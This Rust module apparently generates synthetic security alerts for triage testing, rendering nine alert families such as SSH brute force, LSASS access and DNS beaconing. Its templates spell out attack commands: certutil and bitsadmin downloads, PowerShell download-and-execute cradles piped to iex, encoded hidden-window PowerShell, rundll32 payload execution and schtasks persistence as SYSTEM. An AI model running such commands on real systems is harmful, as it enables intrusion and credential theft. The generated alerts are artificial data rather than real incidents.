//! The alert families: one renderer per kind of alert, each with its own field variety.

use chrono::{DateTime, Duration as ChronoDuration, Utc};
use serde_json::{Map, Value, json};

use super::pools::{FileInfo, Host, Pools, User, hex, pick, upper_alnum};
use super::rfc3339;

pub(super) struct Ctx<'a> {
    pub(super) rng: &'a mut fastrand::Rng,
    pub(super) pools: &'a Pools,
    pub(super) now: DateTime<Utc>,
}

impl Ctx<'_> {
    fn ext_ip(&mut self) -> String {
        self.pools.ext_ips.pick(self.rng).clone()
    }
    fn listed_ip(&mut self) -> String {
        self.pools.listed_ips.pick(self.rng).clone()
    }
    fn domain(&mut self) -> String {
        self.pools.domains.pick(self.rng).clone()
    }
    fn file(&mut self) -> FileInfo {
        self.pools.files.pick(self.rng).clone()
    }
    fn user(&mut self) -> User {
        self.pools.users.pick(self.rng).clone()
    }
    fn win_host(&mut self) -> Host {
        self.pools.win_hosts.pick(self.rng).clone()
    }
    fn linux_host(&mut self) -> Host {
        self.pools.linux_hosts.pick(self.rng).clone()
    }
    fn system_build(&mut self) -> FileInfo {
        self.pools.system_builds.pick(self.rng).clone()
    }
    fn one<'s>(&mut self, items: &'s [&'s str]) -> &'s str {
        pick(self.rng, items)
    }
    fn chance(&mut self, p: f64) -> bool {
        self.rng.f64() < p
    }
    fn ago(&mut self, min_s: i64, max_s: i64) -> DateTime<Utc> {
        self.now - ChronoDuration::seconds(self.rng.i64(min_s..=max_s))
    }
    fn severity(&mut self, weights: [u32; 4]) -> &'static str {
        let total: u32 = weights.iter().sum();
        let mut x = self.rng.u32(0..total.max(1));
        for (w, name) in weights.iter().zip(["low", "medium", "high", "critical"]) {
            if x < *w {
                return name;
            }
            x -= w;
        }
        "medium"
    }
    fn guid(&mut self) -> String {
        let h = hex(self.rng, 32).to_ascii_uppercase();
        format!(
            "{}-{}-{}-{}-{}",
            &h[..8],
            &h[8..12],
            &h[12..16],
            &h[16..20],
            &h[20..]
        )
    }
    fn sysmon(&mut self, event_id: u32, host: &Host, event_data: Value) -> Value {
        let t = self.ago(0, 20);
        let mut raw = json!({
            "log_source": "windows_eventlog",
            "provider": "Microsoft-Windows-Sysmon",
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "event_id": event_id,
            "computer": host.fqdn,
            "time_created": rfc3339(t),
            "event_record_id": self.rng.u64(10_000..90_000_000),
            "user_sid": "S-1-5-18",
        });
        if let Some(obj) = raw.as_object_mut() {
            obj.insert("event_data".into(), event_data);
        }
        raw
    }
}

pub(super) struct Body {
    pub(super) severity: &'static str,
    pub(super) title: String,
    pub(super) raw_log: Value,
    pub(super) indicators: Value,
}

pub(super) struct Family {
    pub(super) name: &'static str,
    pub(super) source: &'static str,
    pub(super) weight: u32,
    pub(super) render: fn(&mut Ctx<'_>) -> Body,
}

pub(super) const FAMILIES: &[Family] = &[
    Family {
        name: "ssh_brute_force",
        source: "siem",
        weight: 16,
        render: ssh_brute_force,
    },
    Family {
        name: "windows_logon_failures",
        source: "siem",
        weight: 12,
        render: windows_logon_failures,
    },
    Family {
        name: "mail_attachment_executed",
        source: "edr",
        weight: 10,
        render: mail_attachment_executed,
    },
    Family {
        name: "lolbin_download",
        source: "edr",
        weight: 10,
        render: lolbin_download,
    },
    Family {
        name: "encoded_powershell",
        source: "edr",
        weight: 10,
        render: encoded_powershell,
    },
    Family {
        name: "lsass_access",
        source: "edr",
        weight: 7,
        render: lsass_access,
    },
    Family {
        name: "scheduled_task",
        source: "siem",
        weight: 10,
        render: scheduled_task,
    },
    Family {
        name: "dns_beacon",
        source: "ndr",
        weight: 12,
        render: dns_beacon,
    },
    Family {
        name: "listed_ip_connection",
        source: "firewall",
        weight: 13,
        render: listed_ip_connection,
    },
];

pub(super) fn pick_family(rng: &mut fastrand::Rng) -> &'static Family {
    let total: u32 = FAMILIES.iter().map(|f| f.weight).sum();
    let mut x = rng.u32(0..total);
    for f in FAMILIES {
        if x < f.weight {
            return f;
        }
        x -= f.weight;
    }
    &FAMILIES[0]
}

const SSH_USERNAMES: &[&str] = &[
    "root", "admin", "ubuntu", "oracle", "postgres", "test", "user", "deploy", "git", "ftpuser",
    "pi", "guest", "jenkins", "ansible", "ec2-user", "support", "mysql", "hadoop",
];

fn ssh_brute_force(c: &mut Ctx<'_>) -> Body {
    let host = c.linux_host();
    let internal_source = c.chance(0.12);
    let src = if internal_source {
        c.win_host().ip
    } else if c.chance(0.35) {
        c.listed_ip()
    } else {
        c.ext_ip()
    };
    let failed = c.rng.u64(60..2_500);
    let distinct = c.rng.u64(1..80).min(failed);
    let successes = u64::from(c.chance(0.04));
    let start = c.ago(600, 3_600);
    let port = if c.chance(0.85) { 22 } else { 2222 };
    let mut names: Vec<&str> = SSH_USERNAMES.to_vec();
    c.rng.shuffle(&mut names);
    names.truncate((distinct as usize).clamp(1, 6));
    let mut left = failed;
    let top: Vec<Value> = names
        .iter()
        .map(|n| {
            let k = c.rng.u64(1..=(left / 2).max(1));
            left -= k.min(left);
            json!([n, k])
        })
        .collect();
    let pid = c.rng.u32(1_000..60_000);
    let sp = c.rng.u16(32_768..65_000);
    let first = names.first().copied().unwrap_or("root");
    let mon = start.format("%b %e %H:%M:%S");
    let mut lines = vec![
        format!(
            "{mon} {} sshd[{pid}]: Failed password for {first} from {src} port {sp} ssh2",
            host.short
        ),
        format!(
            "{mon} {} sshd[{}]: Invalid user {} from {src} port {}",
            host.short,
            pid + 4,
            c.one(SSH_USERNAMES),
            sp + 17
        ),
    ];
    if successes > 0 {
        lines.push(format!(
            "{} {} sshd[{}]: Accepted password for {first} from {src} port {} ssh2",
            c.now.format("%b %e %H:%M:%S"),
            host.short,
            pid + 911,
            sp + 301
        ));
    }
    let title = match c.rng.u8(0..3) {
        0 => format!("SSH brute force against {}", host.fqdn),
        1 => format!(
            "Multiple failed SSH logins on {} from a single source",
            host.short
        ),
        _ => "SSH password guessing from a single source".to_owned(),
    };
    let severity = if successes > 0 {
        "critical"
    } else {
        c.severity([0, 4, 10, 1])
    };
    let users: Vec<&str> = names.iter().take(3).copied().collect();
    Body {
        severity,
        title,
        raw_log: json!({
            "log_source": "linux_auth",
            "host": host.fqdn,
            "program": "sshd",
            "detection": c.one(&[
                "SSH authentication failures above threshold from single source",
                "sshd: repeated failed passwords from one address",
                "Excessive SSH login failures",
            ]),
            "aggregation": {
                "window_start": rfc3339(start),
                "window_end": rfc3339(c.now),
                "src_ip": src,
                "dst_host": host.fqdn,
                "dst_port": port,
                "failed_attempts": failed,
                "distinct_usernames": distinct,
                "successful_logins": successes,
            },
            "top_usernames": top,
            "sample_lines": lines,
        }),
        indicators: json!({"ips": [src], "users": users, "hosts": [host.fqdn]}),
    }
}

const WORKSTATION_NAMES: &[&str] = &[
    "-",
    "kali",
    "WIN-8J3K2LQ0PA",
    "DESKTOP-7QX2M1",
    "USER-PC",
    "ubuntu",
];
const WIN_ACCOUNTS: &[&str] = &[
    "administrator",
    "admin",
    "Administrator",
    "user",
    "scanner",
    "backup",
    "test",
    "sql",
    "helpdesk",
    "guest",
];

fn windows_logon_failures(c: &mut Ctx<'_>) -> Body {
    let host = c.win_host();
    let rdp = c.chance(0.7);
    let src = if c.chance(0.3) {
        c.listed_ip()
    } else if c.chance(0.85) {
        c.ext_ip()
    } else {
        c.win_host().ip
    };
    let failed = c.rng.u64(40..1_800);
    let distinct = c.rng.u64(1..40);
    let start = c.ago(300, 2_400);
    let mut accounts: Vec<&str> = WIN_ACCOUNTS.to_vec();
    c.rng.shuffle(&mut accounts);
    accounts.truncate((distinct as usize).clamp(1, 5));
    let bad_user = c.rng.u64(0..=failed);
    let title = if rdp {
        match c.rng.u8(0..2) {
            0 => format!("Multiple RDP logon failures on {}", host.short),
            _ => "RDP brute force: Windows logon failures (4625) from one source".to_owned(),
        }
    } else {
        format!("Windows network logon failures burst on {}", host.short)
    };
    Body {
        severity: c.severity([1, 6, 8, 1]),
        title,
        raw_log: json!({
            "log_source": "windows_security",
            "channel": "Security",
            "provider": "Microsoft-Windows-Security-Auditing",
            "event_id": 4625,
            "computer": host.fqdn,
            "logon_type": if rdp { 10 } else { 3 },
            "authentication_package": if rdp { "Negotiate" } else { "NTLM" },
            "aggregation": {
                "window_start": rfc3339(start),
                "window_end": rfc3339(c.now),
                "src_ip": src,
                "workstation_name": c.one(WORKSTATION_NAMES),
                "failed_logons": failed,
                "distinct_users": distinct,
                "successful_logons": 0,
            },
            "status_codes": {
                "0xC000006A": failed - bad_user,
                "0xC0000064": bad_user,
            },
            "target_users": accounts,
            "message": "An account failed to log on. No successful logon (4624) from this source in the window.",
        }),
        indicators: json!({"ips": [src], "users": accounts, "hosts": [host.fqdn]}),
    }
}

const OUTLOOK_PATHS: &[&str] = &[
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Program Files\\Microsoft Office\\Office15\\OUTLOOK.EXE",
];
const MAIL_LOCALS: &[&str] = &[
    "billing",
    "accounts",
    "noreply",
    "invoices",
    "hr",
    "recruiting",
    "payments",
    "support",
    "it-helpdesk",
    "shipping",
    "docs",
];
const MAIL_SUBJECTS: &[&str] = &[
    "Overdue invoice {n} - action required",
    "Payment advice {n}",
    "Your parcel could not be delivered ({n})",
    "Updated contract for review #{n}",
    "Voicemail received from +44 20 7946 {n}",
    "Candidate CV for the open position ({n})",
    "Remittance statement {n}",
];

fn mail_attachment_executed(c: &mut Ctx<'_>) -> Body {
    let host = c.win_host();
    let user = c.user();
    let file = c.file();
    let domain = c.domain();
    let sender = format!("{}@{domain}", c.one(MAIL_LOCALS));
    let folder = upper_alnum(c.rng, 8);
    let path = format!(
        "C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{folder}\\{}",
        user.sam, file.name
    );
    let received = c.ago(60, 1_800);
    let subject = c
        .one(MAIL_SUBJECTS)
        .replace("{n}", &c.rng.u32(1000..99_999).to_string());
    let spf = c.one(&["fail", "softfail", "none", "pass", "softfail"]);
    let dkim = c.one(&["none", "fail", "pass"]);
    let args = if c.chance(0.3) { " /S" } else { "" };
    Body {
        severity: c.severity([0, 2, 10, 3]),
        title: c
            .one(&[
                "Executable launched from the Outlook attachment cache",
                "Email attachment executed from Outlook temporary folder",
                "Process started from Content.Outlook by OUTLOOK.EXE",
            ])
            .to_owned(),
        raw_log: json!({
            "event_type": "process_creation",
            "host": host.fqdn,
            "user": user.qualified(),
            "parent_process": c.one(OUTLOOK_PATHS),
            "process_path": path,
            "command_line": format!("\"{path}\"{args}"),
            "process_id": c.rng.u32(1_000..30_000),
            "file_sha256": file.sha256,
            "file_md5": file.md5,
            "email": {
                "message_id": format!("<{}.{}@mail.{domain}>", received.format("%Y%m%d%H%M%S"), hex(c.rng, 5).to_ascii_uppercase()),
                "from": sender,
                "to": user.email(),
                "subject": subject,
                "received": rfc3339(received),
                "spf": spf,
                "dkim": dkim,
                "attachments": [{"filename": file.name, "size": file.size, "sha256": file.sha256}],
                "gateway_action": "delivered",
            },
        }),
        indicators: json!({
            "hashes": [file.sha256, file.md5],
            "emails": [sender],
            "domains": [domain],
            "users": [user.sam],
            "hosts": [host.fqdn],
        }),
    }
}

const DOWNLOAD_DIRS: &[&str] = &[
    "C:\\Users\\Public\\",
    "C:\\ProgramData\\",
    "C:\\Windows\\Temp\\",
    "%TEMP%\\",
    "C:\\Users\\Public\\Libraries\\",
];
const DOWNLOAD_NAMES: &[&str] = &[
    "update.exe",
    "svchost.exe",
    "payload.dll",
    "a.ps1",
    "invoice.hta",
    "setup.msi",
    "1.bat",
    "mscorsvc.exe",
    "data.bin",
    "chrome_update.exe",
];
const PARENTS: &[&str] = &[
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\System32\\wscript.exe",
    "C:\\Windows\\System32\\mshta.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
    "C:\\Windows\\explorer.exe",
];

fn download_url(c: &mut Ctx<'_>) -> (String, Option<String>, Option<String>) {
    let file = c.one(DOWNLOAD_NAMES);
    let dir = c.one(&[
        "",
        "files/",
        "static/",
        "wp-content/uploads/",
        "dl/",
        "cdn/",
    ]);
    if c.chance(0.3) {
        let ip = if c.chance(0.4) {
            c.listed_ip()
        } else {
            c.ext_ip()
        };
        let port = c.one(&["", ":8080", ":443", ":8443"]);
        (format!("http://{ip}{port}/{dir}{file}"), Some(ip), None)
    } else {
        let d = c.domain();
        let scheme = c.one(&["http", "https", "https"]);
        (format!("{scheme}://{d}/{dir}{file}"), None, Some(d))
    }
}

fn lolbin_download(c: &mut Ctx<'_>) -> Body {
    let host = c.win_host();
    let user = c.user();
    let build = c.system_build();
    let (url, ip, domain) = download_url(c);
    let out = format!("{}{}", c.one(DOWNLOAD_DIRS), c.one(DOWNLOAD_NAMES));
    let certutil = c.chance(0.6);
    let (image, original, description, cmd, title) = if certutil {
        let split = if c.chance(0.5) { " -split" } else { "" };
        (
            "C:\\Windows\\System32\\certutil.exe",
            "CertUtil.exe",
            "CertUtil.exe",
            format!("certutil.exe -urlcache{split} -f {url} {out}"),
            c.one(&[
                "Suspicious file download via Certutil.EXE",
                "Certutil used to download a file from the internet",
            ]),
        )
    } else {
        let job = c.one(&["n", "update", "job1", "winupd", "sync"]);
        (
            "C:\\Windows\\System32\\bitsadmin.exe",
            "bitsadmin.exe",
            "BITS administration utility",
            format!("bitsadmin /transfer {job} /priority foreground {url} {out}"),
            c.one(&[
                "File download via Bitsadmin to a suspicious target folder",
                "Bitsadmin transfer job downloading from the internet",
            ]),
        )
    };
    let pid = c.rng.u32(1_000..40_000);
    let event = json!({
        "RuleName": "-",
        "UtcTime": c.now.format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
        "ProcessGuid": c.guid(),
        "ProcessId": pid,
        "Image": image,
        "FileVersion": format!("{} (WinBuild.160101.0800)", build.name),
        "Description": description,
        "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": original,
        "CommandLine": cmd,
        "CurrentDirectory": format!("C:\\Users\\{}\\", user.sam),
        "User": user.qualified(),
        "IntegrityLevel": c.one(&["Medium", "High", "Medium"]),
        "Hashes": format!("SHA1={},MD5={},SHA256={}", build.sha1.to_ascii_uppercase(), build.md5.to_ascii_uppercase(), build.sha256.to_ascii_uppercase()),
        "ParentProcessId": pid.saturating_sub(c.rng.u32(1..900)),
        "ParentImage": c.one(PARENTS),
    });
    let mut indicators = Map::new();
    indicators.insert("urls".into(), json!([url]));
    if let Some(ip) = ip {
        indicators.insert("ips".into(), json!([ip]));
    }
    if let Some(d) = domain {
        indicators.insert("domains".into(), json!([d]));
    }
    indicators.insert("users".into(), json!([user.sam]));
    indicators.insert("hosts".into(), json!([host.fqdn]));
    Body {
        severity: c.severity([0, 5, 10, 1]),
        title: title.to_owned(),
        raw_log: c.sysmon(1, &host, event),
        indicators: Value::Object(indicators),
    }
}

/// Standard base64 with padding.
pub(super) fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

pub(super) fn utf16le_base64(s: &str) -> String {
    let bytes: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64(&bytes)
}

fn encoded_powershell(c: &mut Ctx<'_>) -> Body {
    let host = c.win_host();
    let user = c.user();
    let build = c.system_build();
    let (url, ip, domain) = download_url(c);
    let script = match c.rng.u8(0..4) {
        0 => format!("IEX (New-Object Net.WebClient).DownloadString('{url}')"),
        1 => format!(
            "Invoke-WebRequest -Uri {url} -OutFile $env:TEMP\\{f}; Start-Process $env:TEMP\\{f}",
            f = c.one(DOWNLOAD_NAMES)
        ),
        2 => format!(
            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String((iwr {url} -UseBasicParsing).Content));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
        ),
        _ => format!(
            "Start-Sleep -s {}; iwr {url} -UseBasicParsing | iex",
            c.rng.u8(3..60)
        ),
    };
    let flags = c.one(&[
        "-NoP -NonI -W Hidden -Enc",
        "-nop -w hidden -encodedcommand",
        "-exec bypass -e",
        "-NoProfile -ExecutionPolicy Bypass -EncodedCommand",
    ]);
    let cmd = format!("powershell.exe {flags} {}", utf16le_base64(&script));
    let pid = c.rng.u32(1_000..40_000);
    let mut event = json!({
        "RuleName": "-",
        "UtcTime": c.now.format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
        "ProcessGuid": c.guid(),
        "ProcessId": pid,
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "OriginalFileName": "PowerShell.EXE",
        "CommandLine": cmd,
        "CurrentDirectory": format!("C:\\Users\\{}\\AppData\\Local\\Temp\\", user.sam),
        "User": user.qualified(),
        "IntegrityLevel": c.one(&["Medium", "High"]),
        "Hashes": format!("MD5={},SHA256={}", build.md5.to_ascii_uppercase(), build.sha256.to_ascii_uppercase()),
        "ParentProcessId": pid.saturating_sub(c.rng.u32(1..900)),
        "ParentImage": c.one(PARENTS),
    });
    let decoded = c.chance(0.5);
    if decoded && let Some(obj) = event.as_object_mut() {
        obj.insert("DecodedCommand".into(), Value::String(script));
    }
    let mut indicators = Map::new();
    if decoded {
        indicators.insert("urls".into(), json!([url]));
        if let Some(ip) = ip {
            indicators.insert("ips".into(), json!([ip]));
        }
        if let Some(d) = domain {
            indicators.insert("domains".into(), json!([d]));
        }
    }
    indicators.insert("users".into(), json!([user.sam]));
    indicators.insert("hosts".into(), json!([host.fqdn]));
    Body {
        severity: c.severity([0, 3, 10, 2]),
        title: c
            .one(&[
                "PowerShell with an encoded command",
                "Suspicious encoded PowerShell command line",
                "PowerShell Base64 encoded payload with hidden window",
            ])
            .to_owned(),
        raw_log: c.sysmon(1, &host, event),
        indicators: Value::Object(indicators),
    }
}

fn lsass_access(c: &mut Ctx<'_>) -> Body {
    let host = c.win_host();
    let user = c.user();
    let tool = c.file();
    let (source_image, call_trace_tail) = match c.rng.u8(0..4) {
        0 => (
            format!(
                "C:\\Users\\{}\\AppData\\Local\\Temp\\{}",
                user.sam, tool.name
            ),
            "UNKNOWN(00007FF6A1B2C3D4)",
        ),
        1 => (
            "C:\\Windows\\System32\\rundll32.exe".to_owned(),
            "C:\\Windows\\System32\\comsvcs.dll+3a1e2",
        ),
        2 => (
            "C:\\ProgramData\\procdump64.exe".to_owned(),
            "C:\\ProgramData\\procdump64.exe+4f2a0",
        ),
        _ => (
            "C:\\Windows\\system32\\taskmgr.exe".to_owned(),
            "C:\\Windows\\System32\\dbgcore.DLL+6b5c",
        ),
    };
    let access = c.one(&["0x1010", "0x1410", "0x1FFFFF", "0x143A", "0x1438"]);
    let event = json!({
        "RuleName": "-",
        "UtcTime": c.now.format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
        "SourceProcessGUID": c.guid(),
        "SourceProcessId": c.rng.u32(1_000..40_000),
        "SourceThreadId": c.rng.u32(1_000..40_000),
        "SourceImage": source_image,
        "TargetProcessGUID": c.guid(),
        "TargetProcessId": c.rng.u32(500..1_200),
        "TargetImage": "C:\\Windows\\system32\\lsass.exe",
        "GrantedAccess": access,
        "CallTrace": format!("C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|{call_trace_tail}"),
        "SourceUser": user.qualified(),
        "TargetUser": "NT AUTHORITY\\SYSTEM",
    });
    let mut raw = c.sysmon(10, &host, event);
    let mut indicators = json!({"users": [user.sam], "hosts": [host.fqdn]});
    if c.chance(0.5)
        && let (Some(r), Some(i)) = (raw.as_object_mut(), indicators.as_object_mut())
    {
        r.insert(
            "source_image_sha256".into(),
            Value::String(tool.sha256.clone()),
        );
        i.insert("hashes".into(), json!([tool.sha256]));
    }
    Body {
        severity: c.severity([0, 1, 8, 5]),
        title: c
            .one(&[
                "LSASS process memory accessed by an unusual process",
                "Credential dumping: handle to lsass.exe with read access",
                "Potential LSASS memory dump",
            ])
            .to_owned(),
        raw_log: raw,
        indicators,
    }
}

const TASK_NAMES: &[&str] = &[
    "\\Microsoft\\Windows\\UpdateOrchestrator\\RefreshCache",
    "\\SystemHealthCheck",
    "\\OneDrive Reporting Task",
    "\\GoogleUpdateTaskMachineUA",
    "\\Microsoft\\Windows\\Maintenance\\WinSAT2",
    "\\AdobeFlashSync",
    "\\Backup Agent Nightly",
];

fn scheduled_task(c: &mut Ctx<'_>) -> Body {
    let host = c.win_host();
    let user = c.user();
    let task = c.one(TASK_NAMES);
    let benign = c.chance(0.2);
    let (command, args, ind_url, ind_domain) = if benign {
        (
            "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe".to_owned(),
            "/ua /installsource scheduler".to_owned(),
            None,
            None,
        )
    } else {
        match c.rng.u8(0..3) {
            0 => {
                let (url, _, d) = download_url(c);
                (
                    "powershell.exe".to_owned(),
                    format!("-w hidden -c \"iwr {url} -UseBasicParsing | iex\""),
                    Some(url),
                    d,
                )
            }
            1 => (
                format!("C:\\Users\\Public\\{}", c.one(DOWNLOAD_NAMES)),
                String::new(),
                None,
                None,
            ),
            _ => (
                "rundll32.exe".to_owned(),
                format!(
                    "C:\\ProgramData\\{},DllRegisterServer",
                    c.one(&["payload.dll", "msupd.dll", "cache.dat"])
                ),
                None,
                None,
            ),
        }
    };
    let trigger = c.one(&["ONLOGON", "DAILY", "ONSTART", "MINUTE"]);
    let raw = if c.chance(0.5) {
        json!({
            "log_source": "windows_security",
            "channel": "Security",
            "provider": "Microsoft-Windows-Security-Auditing",
            "event_id": 4698,
            "computer": host.fqdn,
            "time_created": rfc3339(c.now),
            "event_record_id": c.rng.u64(100_000..90_000_000),
            "event_data": {
                "SubjectUserName": user.sam,
                "SubjectDomainName": user.domain,
                "SubjectLogonId": format!("0x{}", hex(c.rng, 6)),
                "TaskName": task,
                "TaskContent": format!(
                    "<Task><Triggers><{trigger}Trigger/></Triggers><Principals><Principal><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Actions><Exec><Command>{command}</Command><Arguments>{args}</Arguments></Exec></Actions></Task>"
                ),
            },
        })
    } else {
        let build = c.system_build();
        let tr = if args.is_empty() {
            command.clone()
        } else {
            format!("{command} {args}")
        };
        let event = json!({
            "RuleName": "-",
            "UtcTime": c.now.format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
            "ProcessGuid": c.guid(),
            "ProcessId": c.rng.u32(1_000..40_000),
            "Image": "C:\\Windows\\System32\\schtasks.exe",
            "OriginalFileName": "schtasks.exe",
            "CommandLine": format!("schtasks /create /tn \"{task}\" /tr \"{}\" /sc {trigger} /ru SYSTEM /f", tr.replace('"', "\\\"")),
            "User": user.qualified(),
            "IntegrityLevel": "High",
            "Hashes": format!("MD5={},SHA256={}", build.md5.to_ascii_uppercase(), build.sha256.to_ascii_uppercase()),
            "ParentImage": c.one(PARENTS),
        });
        c.sysmon(1, &host, event)
    };
    let mut indicators = Map::new();
    if let Some(u) = ind_url {
        indicators.insert("urls".into(), json!([u]));
    }
    if let Some(d) = ind_domain {
        indicators.insert("domains".into(), json!([d]));
    }
    indicators.insert("users".into(), json!([user.sam]));
    indicators.insert("hosts".into(), json!([host.fqdn]));
    Body {
        severity: c.severity([1, 6, 6, 0]),
        title: c
            .one(&[
                "Scheduled task created",
                "Suspicious scheduled task creation",
                "Persistence: new scheduled task running as SYSTEM",
            ])
            .to_owned(),
        raw_log: raw,
        indicators: Value::Object(indicators),
    }
}

fn dns_beacon(c: &mut Ctx<'_>) -> Body {
    let host = c.win_host();
    let domain = c.domain();
    let high_entropy = c.chance(0.4);
    let sample = if high_entropy {
        let len = c.rng.usize(16..48);
        format!("{}.{domain}", hex(c.rng, len))
    } else {
        format!(
            "{}.{domain}",
            c.one(&["api", "cdn", "update", "m", "www", "t"])
        )
    };
    let interval = *pick(c.rng, &[&30u32, &60, &60, &120, &300, &600]);
    let first = c.ago(3_600, 86_400);
    let span = (c.now - first).num_seconds().max(1) as u64;
    let count = (span / u64::from(interval)).max(10);
    Body {
        severity: c.severity([3, 8, 3, 0]),
        title: if high_entropy {
            format!("High-entropy DNS queries to rare domain {domain}")
        } else {
            format!("Periodic DNS beaconing to {domain}")
        },
        raw_log: json!({
            "log_source": "dns",
            "client_ip": host.ip,
            "client_host": host.fqdn,
            "query_sample": sample,
            "qtype": c.one(&["A", "TXT", "A", "AAAA", "CNAME"]),
            "response_code": c.one(&["NOERROR", "NOERROR", "NXDOMAIN"]),
            "query_count": count,
            "distinct_subdomains": if high_entropy { count / 2 } else { 1 },
            "interval_seconds": interval,
            "jitter_pct": c.rng.u8(0..25),
            "first_seen": rfc3339(first),
            "last_seen": rfc3339(c.now),
            "resolver": "10.0.0.53",
        }),
        indicators: json!({"domains": [domain], "hosts": [host.fqdn]}),
    }
}

fn listed_ip_connection(c: &mut Ctx<'_>) -> Body {
    let host = if c.chance(0.7) {
        c.win_host()
    } else {
        c.linux_host()
    };
    let dst = if c.chance(0.6) {
        c.listed_ip()
    } else {
        c.ext_ip()
    };
    let port = *pick(c.rng, &[&443u16, &443, &9001, &8443, &4444, &80, &22]);
    let action = c.one(&["allow", "allow", "deny", "reset-both"]);
    let sessions = c.rng.u64(1..60);
    Body {
        severity: c.severity([2, 8, 5, 0]),
        title: format!(
            "Outbound connection to a listed IP address from {}",
            host.short
        ),
        raw_log: json!({
            "log_source": "firewall",
            "device": c.one(&["pa-edge-01", "pa-edge-02", "fgt-dc-01"]),
            "action": action,
            "rule": c.one(&["allow-outbound-web", "default-outbound", "block-threat-list"]),
            "src_ip": host.ip,
            "src_host": host.fqdn,
            "dst_ip": dst,
            "dst_port": port,
            "protocol": "tcp",
            "app": c.one(&["ssl", "unknown-tcp", "tor", "web-browsing"]),
            "sessions": sessions,
            "bytes_out": c.rng.u64(400..4_000_000),
            "bytes_in": c.rng.u64(200..900_000),
            "threat_list": c.one(&["tor-exit-nodes", "threatfox-c2", "internal-blocklist"]),
            "first_seen": rfc3339(c.ago(60, 7_200)),
            "last_seen": rfc3339(c.now),
        }),
        indicators: json!({"ips": [dst, host.ip], "hosts": [host.fqdn]}),
    }
}
